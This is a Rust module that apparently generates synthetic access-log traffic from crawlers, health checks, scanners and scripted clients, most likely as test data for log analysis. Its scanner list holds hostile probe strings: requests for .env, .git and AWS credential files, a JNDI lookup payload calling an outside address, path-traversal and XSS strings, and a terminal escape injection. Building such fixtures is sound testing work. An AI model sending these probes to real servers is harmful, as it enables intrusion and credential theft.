//! Everything that is not a person with a browser: crawlers, health checks, a vulnerability scanner, command-line tools.

use crate::line::{Line, SECOND_US};
use crate::log::{Class, Log};
use crate::page::{Pages, Visitor};
use crate::random::{LogNormal, Random, Stream};
use crate::secrets::Secrets;
use crate::site::State;

/// A search engine's or index's robot.
struct Crawler {
    agent: &'static str,
    addresses: &'static [&'static str],
    /// Mean gap between two of its requests.
    gap_s: f64,
}

const CRAWLERS: [Crawler; 3] = [
    Crawler {
        agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        addresses: &["198.51.100.11", "198.51.100.12", "198.51.100.13"],
        gap_s: 260.0,
    },
    Crawler {
        agent: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        addresses: &["198.51.100.41", "198.51.100.42"],
        gap_s: 420.0,
    },
    Crawler {
        agent: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        addresses: &["198.51.100.77"],
        gap_s: 600.0,
    },
];

/// Seconds between two health checks.
const HEALTH_CHECK_GAP_S: u64 = 15;

/// Sweeps of the scanner in the week, and requests of each.
const SWEEPS: usize = 3;
const SWEEP_REQUESTS: usize = 180;

/// What a scanner asks for; the last three hold what nginx must escape.
const SCANNED: [&str; 24] = [
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/phpinfo.php",
    "/admin.php",
    "/administrator/index.php",
    "/cgi-bin/luci/;stok=/locale",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/actuator/env",
    "/server-status",
    "/backup.zip",
    "/db.sql.gz",
    "/config.json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system?wt=json",
    "/owa/auth/logon.aspx",
    "/?x=${jndi:ldap://198.51.100.200/a}",
    "/search?q=\"><script>alert(1)</script>",
    "/..\\..\\windows\\win.ini",
    "/\x07\x1b[2Jbell",
];
/// Endings a scanner tries on each path.
const SCANNED_ENDINGS: [&str; 6] = ["", "", ".bak", ".old", "~", ".swp"];

/// Command-line clients, too few to be shown by name in a profile.
const TOOLS: [(&str, &str); 5] = [
    ("192.0.2.31", "curl/8.14.1"),
    ("192.0.2.32", "curl/8.5.0"),
    ("192.0.2.33", "python-requests/2.32.4"),
    ("192.0.2.34", "python-requests/2.31.0"),
    ("192.0.2.35", "Go-http-client/2.0"),
];
/// Bursts of each tool in the week, and requests of a burst at most.
const BURSTS: usize = 18;
const BURST_REQUESTS: usize = 5;

/// The route the tools call; nobody else does.
pub(crate) const TOOL_ROUTE: &str = "/api/stock/{sku}";

/// What all machines share.
struct Robots<'a> {
    random: Random,
    span_us: u64,
    log: &'a mut Log,
}

/// One request of a machine.
struct Call<'a> {
    class: Class,
    address: &'a str,
    agent: &'a str,
    at_us: u64,
    target: &'a [u8],
    status: u16,
    median_bytes: f64,
}

/// Logs all machines over `span_us`.
pub(crate) fn run(seed: u64, span_us: u64, pages: &Pages, secrets: &mut Secrets, log: &mut Log) {
    let mut robots = Robots { random: Random::new(seed, Stream::Robots), span_us, log };
    for crawler in &CRAWLERS {
        robots.crawl(crawler, pages);
    }
    robots.check_health();
    for sweep in 0..SWEEPS {
        robots.scan(sweep);
    }
    for (address, agent) in TOOLS {
        robots.use_tool(address, agent);
    }
    let key = secrets.api_key("key in a user agent");
    robots.use_tool("192.0.2.36", &format!("python-requests/2.32.4 (key={key})"));
}

impl Robots<'_> {
    /// Logs one crawler: pages without files, popular or not, and the files made for robots.
    fn crawl(&mut self, crawler: &Crawler, pages: &Pages) {
        let nobody = Visitor { account: 0, order: 0 };
        let mut at_us = self.pause_us(crawler.gap_s);
        while at_us < self.span_us {
            let mut target = Vec::new();
            match self.random.uniform() {
                x if x < 0.03 => target.extend_from_slice(b"/robots.txt"),
                x if x < 0.04 => target.extend_from_slice(b"/sitemap.xml"),
                x if x < 0.09 => target.push(b'/'),
                x if x < 0.30 => {
                    let page = pages.draw(State::Category, nobody, &mut self.random);
                    pages.write_target(page, &mut target);
                }
                _ => pages.write_target(pages.any_product(&mut self.random), &mut target),
            }
            let status = *self.random.pick(&[200, 200, 200, 200, 200, 200, 200, 200, 304, 404]);
            let address = self.random.pick(crawler.addresses);
            self.call(&Call {
                class: Class::Crawler,
                address,
                agent: crawler.agent,
                at_us,
                target: &target,
                status,
                median_bytes: 18_000.0,
            });
            at_us += self.pause_us(crawler.gap_s);
        }
    }

    /// Logs the health checks of an orchestrator, punctual to a few milliseconds.
    fn check_health(&mut self) {
        let mut due_us = 7_300_000;
        while due_us < self.span_us {
            let late_us = self.random.below(4_000) as u64;
            let started_us = due_us + late_us;
            let line = Line {
                address: "192.0.2.11",
                user: None,
                started_us,
                ended_us: started_us + 300 + self.random.below(900) as u64,
                request: b"GET /healthz HTTP/1.1",
                status: 200,
                body_bytes: 2,
                referer: b"",
                agent: b"kube-probe/1.31",
            };
            self.log.push(Class::HealthCheck, &line);
            due_us += HEALTH_CHECK_GAP_S * SECOND_US;
        }
    }

    /// Logs one sweep of the scanner, at a machine's pace and mostly in vain.
    fn scan(&mut self, sweep: usize) {
        let address = format!("192.0.2.{}", 66 + sweep);
        let mut at_us = (self.random.uniform() * self.span_us as f64 * 0.99) as u64;
        for _ in 0..SWEEP_REQUESTS {
            let target = [*self.random.pick(&SCANNED), *self.random.pick(&SCANNED_ENDINGS)].concat();
            let status = if self.random.chance(0.03) { 403 } else { 404 };
            self.call(&Call {
                class: Class::Scanner,
                address: &address,
                agent: "Mozilla/5.0 zgrab/0.x",
                at_us,
                target: target.as_bytes(),
                status,
                median_bytes: 153.0,
            });
            at_us += self.pause_us(0.12);
        }
    }

    /// Logs the bursts of someone who calls the shop from a script.
    fn use_tool(&mut self, address: &str, agent: &str) {
        for _ in 0..BURSTS {
            let mut at_us = (self.random.uniform() * self.span_us as f64 * 0.99) as u64;
            for _ in 0..1 + self.random.below(BURST_REQUESTS) {
                let target = format!("/api/stock/SKU-{}", 10_000 + self.random.below(4_000));
                let status = if self.random.chance(0.05) { 404 } else { 200 };
                self.call(&Call {
                    class: Class::Tool,
                    address,
                    agent,
                    at_us,
                    target: target.as_bytes(),
                    status,
                    median_bytes: 210.0,
                });
                at_us += self.pause_us(1.5);
            }
        }
    }

    fn call(&mut self, call: &Call) {
        let service_time_s = self.random.log_normal(LogNormal { median: 0.02, sigma: 0.5 });
        let bytes = self.random.log_normal(LogNormal { median: call.median_bytes, sigma: 0.2 });
        let line = Line {
            address: call.address,
            user: None,
            started_us: call.at_us,
            ended_us: call.at_us + (service_time_s * SECOND_US as f64) as u64,
            request: &[b"GET ", call.target, b" HTTP/1.1"].concat(),
            status: call.status,
            body_bytes: if call.status == 304 { 0 } else { bytes as u64 },
            referer: b"",
            agent: call.agent.as_bytes(),
        };
        self.log.push(call.class, &line);
    }

    fn pause_us(&mut self, mean_s: f64) -> u64 {
        (self.random.exponential() * mean_s * SECOND_US as f64) as u64
    }
}
